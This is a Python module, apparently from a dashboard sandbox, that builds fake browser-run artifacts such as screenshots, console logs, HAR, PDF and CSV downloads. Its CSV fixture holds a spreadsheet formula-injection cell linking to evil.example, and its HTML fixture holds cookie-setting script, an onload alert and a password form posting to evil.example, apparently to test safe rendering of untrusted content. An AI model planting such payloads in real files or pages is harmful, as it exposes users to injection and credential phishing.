"""What is inside an artifact, made when it is asked for."""

import json
from functools import lru_cache
from pathlib import Path
from typing import Any

from dashboard.sandbox import pictures
from dashboard.sandbox.files import Artifact
from dashboard.sandbox.state import Run

type Json = dict[str, Any]

RECORDING = Path(__file__).parent / "media" / "recording.mp4"
TYPES = {
    "recording": "video/mp4",
    "screenshot_action": "image/png",
    "screenshot_llm": "image/png",
    "screenshot_final": "image/png",
    "browser_console_log": "text/plain; charset=utf-8",
    "html_scrape": "text/html; charset=utf-8",
    "download": "application/octet-stream",
}
# Upstream serves HAR and PDF as application/json: so do we, by leaving them out above.


def of(run: Run, artifact: Artifact) -> bytes:
    """The bytes; the same ones each time."""
    match artifact.kind:
        case "recording":
            content = _recording()
        case "browser_console_log":
            content = _console(run, artifact)
        case "har":
            content = _har(artifact)
        case "html_scrape":
            content = _HOSTILE_HTML.encode()
        case "pdf":
            content = _PDF
        case "download":
            content = _CSV.encode()
        case kind:
            failed = bool(artifact.timed and artifact.timed.step.failure)
            content = _picture(artifact.artifact_id, failed and kind != "screenshot_action")
    return content


@lru_cache(maxsize=1)
def _recording() -> bytes:
    return RECORDING.read_bytes()


@lru_cache(maxsize=256)
def _picture(seed: str, failed: bool) -> bytes:
    return pictures.screenshot(seed, failed=failed)


_CSV = (
    "number,date,total,currency\r\n"
    "R-2026-1871,2026-10-02,1249.00,EUR\r\n"
    "R-2026-1894,2026-10-14,318.45,EUR\r\n"
    '=HYPERLINK("http://evil.example"),2026-10-29,2075.10,EUR\r\n'
)
_HOSTILE_HTML = """<!doctype html>
<html><head><title>Invoices</title><script>document.cookie = "stolen=1"; alert("scrape")</script>
</head><body onload="alert('load')"><h1>Invoices</h1>
<table><tr><td>R-2026-1871</td><td>1,249.00</td></tr></table>
<form action="https://evil.example/"><input name="password"></form></body></html>
"""
_PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj
trailer<</Root 1 0 R>>
%%EOF
"""


def _console(run: Run, artifact: Artifact) -> bytes:
    at = artifact.made.isoformat()
    lines = [
        f"[{at}] [log] portal 4.12.0 ready",
        f"[{at}] [warning] Third-party cookie will be blocked: analytics.northwind.example",
    ]
    if artifact.timed and artifact.timed.step.failure:
        lines.append(f"[{at}] [error] {artifact.timed.step.failure.reason[:300]}")
    return "\n".join([*lines, f"[{at}] [log] {run.run_id} left the page", ""]).encode()


def _har(artifact: Artifact) -> bytes:
    url = (artifact.timed and artifact.timed.step.url) or "about:blank"
    entry: Json = {
        "startedDateTime": artifact.made.isoformat(),
        "time": 84.2,
        "request": {"method": "GET", "url": url, "headers": [], "queryString": []},
        "response": {"status": 200, "statusText": "OK", "headers": [], "content": {"size": 5120}},
    }
    creator = {"name": "sandbox", "version": "1"}
    return json.dumps({"log": {"version": "1.2", "creator": creator, "entries": [entry]}}).encode()
